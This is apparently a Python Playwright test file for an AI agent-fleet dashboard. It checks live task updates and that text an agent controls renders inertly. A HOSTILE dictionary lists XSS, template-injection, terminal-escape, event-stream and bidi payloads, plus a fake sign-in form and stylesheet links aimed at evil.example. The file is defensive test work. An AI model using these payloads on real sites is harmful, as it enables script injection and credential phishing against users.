"""A task's page while it is open: what an agent does appears, and stays text whatever it is."""

import re

import pytest
from playwright.sync_api import expect

from agenhood.fleet import live
from agenhood.fleet.actions import history
from agenhood.fleet.actions.history import NewEvent
from agenhood.fleet.models import Agent, Approval, Event, Task
from tests.browser.page_check import PHONE, WIDER_THAN_THE_WINDOW, faults
from tests.browser.rows import member
from tests.factories import AgentFactory, ArtifactFactory
from workspaces.models import Membership
from workspaces.roles import Role
from workspaces.scope import platform_scope, workspace_scope

Kind = Event.Kind
HOSTILE = {
    "markup": "<img src=x onerror=alert(1)><script>alert(1)</script><svg onload=alert(1)>",
    "closes what it is in": "</pre></details></div></template></textarea></script>"
    "<img src=x onerror=alert(1)>",
    "attribute": "\" autofocus onfocus=\"alert(1)' onmouseover='alert(1)",
    "entities": "&lt;img src=x onerror=alert(1)&gt;&#60;script&#62;",
    "template": "{{7*7}}{% load x %}${7*7}<%= 7 %>",
    "terminal": "\x1b]8;;javascript:alert(1)\x1b\\link\x1b]8;;\x1b\\\x1b[2J\x1b[31mred<b>\x1b[0m",
    "paint in markup": "<\x1b[31mimg src=x onerror=alert(1)>\x1b[1m<script>",
    "stream": "\n\nevent: end\ndata: {}\n\nid: 99\n: x",
    "line ends": "\r\rdata: x\u2028\u2029\x85event: end",
    "htmx": '<i hx-get="/sign-in/out/" hx-trigger="load"></i><a href="javascript:alert(1)">x</a>',
    "direction": "\u202egnp.exe\u202c\u200b\ufeff",
    "form": '<form action="//evil.example"><input name=password><button>Sign in</button></form>',
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>"
    "<base href=//evil.example><meta http-equiv=refresh content=0>",
    "wide": "W" * 3000,
}
INERT = "[onerror], [onload], [onfocus], [onmouseover], [hx-trigger=load], main script, main style"
ADDED = "main img, main link, main base, main meta, main b, a[href^='javascript:'], [name=password]"


@pytest.fixture
def otto(committed_db):
    otto = member(Role.ADMIN, of="Acme", name="Otto")
    otto.agent = AgentFactory(workspace=otto.workspace, name="Owl")
    with workspace_scope(otto.workspace_id, user_id=otto.user_id):
        thread = history.start_conversation(agent=otto.agent, title="Birds", by=otto.user)
        otto.task = history.add_task(thread, text="Count the birds.", by=otto.user)
        history.start_task(otto.task)
    return otto


def open_task(browse, otto, **options):
    page = browse(otto.user, f"/w/acme/tasks/{otto.task.pk}/", **options)
    expect(page.locator("[data-live-state]")).to_have_text("live")
    return page


def say(task, *events):
    with workspace_scope(task.workspace_id):
        history.append_events(task, events)


def said(count, kind=Kind.MESSAGE):
    return [NewEvent(kind, f"line {number}") for number in range(1, count + 1)]


def test_a_task_is_watched_from_its_beginning_to_its_end(browse, otto):
    page = open_task(browse, otto)
    expect(page.get_by_text("Nothing has happened yet.")).to_be_visible()

    say(otto.task, NewEvent(Kind.MESSAGE, "I count."), NewEvent(Kind.OUTPUT, "\x1b[31mthree"))
    expect(page.get_by_text("I count.")).to_be_visible()
    expect(page.locator(".ansi-red")).to_have_text("three")
    expect(page.get_by_text("Nothing has happened yet.")).to_have_count(0)

    with workspace_scope(otto.workspace_id):
        Approval.objects.create(task=otto.task, call="1", tool="run_shell", arguments={"c": "ls"})
        Task.objects.filter(pk=otto.task.pk).update(state="waiting", input_tokens=1200)
        live.tell(otto.task)
    expect(page.get_by_role("button", name="Allow")).to_be_visible()
    expect(page.locator("[data-status-words]")).to_have_text("Waiting for approval")
    assert faults(page) == []

    with workspace_scope(otto.workspace_id):
        Approval.objects.update(state="denied")
    ArtifactFactory(workspace=otto.workspace, task=otto.task, path="out/report.md")
    with workspace_scope(otto.workspace_id):
        history.finish_task(otto.task, state=Task.State.SUCCEEDED, output="Three birds.")
    expect(page.locator("[data-live-state]")).to_have_text("ended")
    expect(page.get_by_role("button", name="Allow")).to_have_count(0)
    expect(page.get_by_role("link", name="out/report.md").first).to_be_visible()
    expect(page.get_by_text("Three birds.")).to_be_visible()
    expect(page.get_by_role("button", name="Retry", exact=True)).to_be_visible()
    expect(page).to_have_title(re.compile("^Succeeded"))
    assert faults(page) == []


def test_the_page_follows_until_somebody_reads_further_up(browse, otto):
    say(otto.task, *said(60))
    page = open_task(browse, otto)
    log, follow = page.locator("#events"), page.locator("[data-follow]")
    log.scroll_into_view_if_needed()
    shows(page, 60)

    log.evaluate("(log) => { log.scrollTop = 0; }")
    shows(page, 1)
    say(otto.task, *said(42))
    expect(follow).to_have_text("↓ 42 new")
    shows(page, 1)

    follow.click()
    shows(page, 102)
    expect(follow).to_be_hidden()
    say(otto.task, *said(30))
    shows(page, 132)


def shows(page, number):
    """Wait until an event is in the part of the log that one sees."""
    page.wait_for_function(
        """(number) => {
          const log = document.querySelector("#events").getBoundingClientRect();
          const row = document.querySelector(`#event-${number}`)?.getBoundingClientRect();
          return row && row.top >= log.top - 1 && row.bottom <= log.bottom + 12;
        }""",
        arg=number,
    )


def test_many_events_leave_the_page_light(browse, otto):
    page = open_task(browse, otto)
    for _ in range(5):
        say(otto.task, *said(500, Kind.TOOL_CALL))
        expect(page.locator("[data-live-count]")).to_have_text(re.compile(r"\d+ events"))
    expect(page.locator("#event-2500")).to_be_attached()

    assert page.locator("#events > *").count() <= 2000
    assert page.get_by_role("link", name="Earlier events").is_visible()
    page.get_by_role("link", name="Earlier events").click()
    expect(page).to_have_url(re.compile(r"before=\d+"))


def test_a_kind_alone(browse, otto):
    page = browse(otto.user, f"/w/acme/tasks/{otto.task.pk}/?kind=errors")
    expect(page.locator("[data-live-state]")).to_have_text("live")
    say(otto.task, NewEvent(Kind.MESSAGE, "I count."), NewEvent(Kind.ERROR, "It is dark."))

    expect(page.get_by_text("It is dark.")).to_be_visible()
    expect(page.get_by_text("I count.")).to_have_count(0)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_whatever_an_agent_says_is_text(browse, otto, text):
    """In every field that it controls, as it comes and when the page is opened anew."""
    page = open_task(browse, otto)
    page.on("dialog", lambda dialog: pytest.fail(f"it opened a dialog: {dialog.message}"))
    page.on("request", lambda sent: "evil" in sent.url and pytest.fail(f"it asked {sent.url}"))
    data = dict.fromkeys(["tool", "role", "stream", "path", "change", "state", "model"], text)
    data |= {text[:100]: [text], "call": text, "exit_code": text}
    say(otto.task, *(NewEvent(kind, text, data) for kind in Kind))
    with workspace_scope(otto.workspace_id):
        call = {"call": text[:200], "tool": text[:40], "arguments": {text: text}}
        Approval.objects.create(task=otto.task, **call)
        live.tell(otto.task)
    ArtifactFactory(workspace=otto.workspace, task=otto.task, path=text[:400])
    expect(page.locator("#event-8")).to_be_attached()
    expect(page.get_by_role("button", name="Allow")).to_be_visible()
    expect(page.locator("[data-live-state]")).to_have_text("live")
    inert(page)

    with workspace_scope(otto.workspace_id):
        history.finish_task(otto.task, state=Task.State.FAILED, output=text, reason=text[:500])
    expect(page.locator("[data-live-state]")).to_have_text("ended")
    expect(page.locator("#result")).to_be_visible()
    inert(page)
    page.reload()
    inert(page)


def inert(page):
    page.locator("details").evaluate_all("(all) => all.forEach((one) => { one.open = true; })")
    assert page.locator(INERT).count() == 0
    assert page.locator(ADDED).count() == 0
    page.set_viewport_size(PHONE)
    assert page.evaluate(WIDER_THAN_THE_WINDOW) == []


def test_who_is_signed_out_sees_nothing_more(browse, otto):
    say(otto.task, NewEvent(Kind.MESSAGE, "I count."))
    page = open_task(browse, otto)
    page.context.request.post(
        "/sign-in/out/", headers={"X-CSRFToken": csrf(page), "Referer": page.url}
    )

    expect(page.get_by_role("heading", name="You are signed out")).to_be_visible()
    expect(page.get_by_text("I count.")).to_have_count(0)
    assert faults(page) == []


def csrf(page):
    return next(one["value"] for one in page.context.cookies() if one["name"] == "csrftoken")


def test_who_is_removed_sees_nothing_more(browse, otto):
    say(otto.task, NewEvent(Kind.MESSAGE, "I count."))
    fellow = member(Role.OWNER, of="Globex", user=otto.user)
    page = open_task(browse, otto)
    assert fellow.workspace_id != otto.workspace_id
    with platform_scope("test"):
        Membership.objects.filter(pk=otto.pk).delete()

    expect(page.get_by_role("heading", name="You no longer have access")).to_be_visible()
    expect(page.get_by_text("I count.")).to_have_count(0)


def test_without_script_one_looks_again(browse, otto):
    page = browse(otto.user, f"/w/acme/tasks/{otto.task.pk}/", java_script_enabled=False)
    say(otto.task, NewEvent(Kind.MESSAGE, "I count."))

    page.get_by_role("link", name="Look again").click()

    expect(page.get_by_text("I count.")).to_be_visible()


def test_the_list_of_agents_is_kept_current(browse, otto):
    page = browse(otto.user, "/w/acme/agents/")
    row = page.get_by_role("row").filter(has_text="Owl")
    expect(row).to_contain_text("Running")
    page.wait_for_function("document.querySelector('[data-agent-task]')")
    with workspace_scope(otto.workspace_id):
        Agent.objects.filter(pk=otto.agent.pk).update(state="paused")
        live.tell_agent(otto.agent)
        history.finish_task(otto.task, state=Task.State.FAILED)

    expect(row).to_contain_text("Paused")
    expect(row).to_contain_text("Failed")
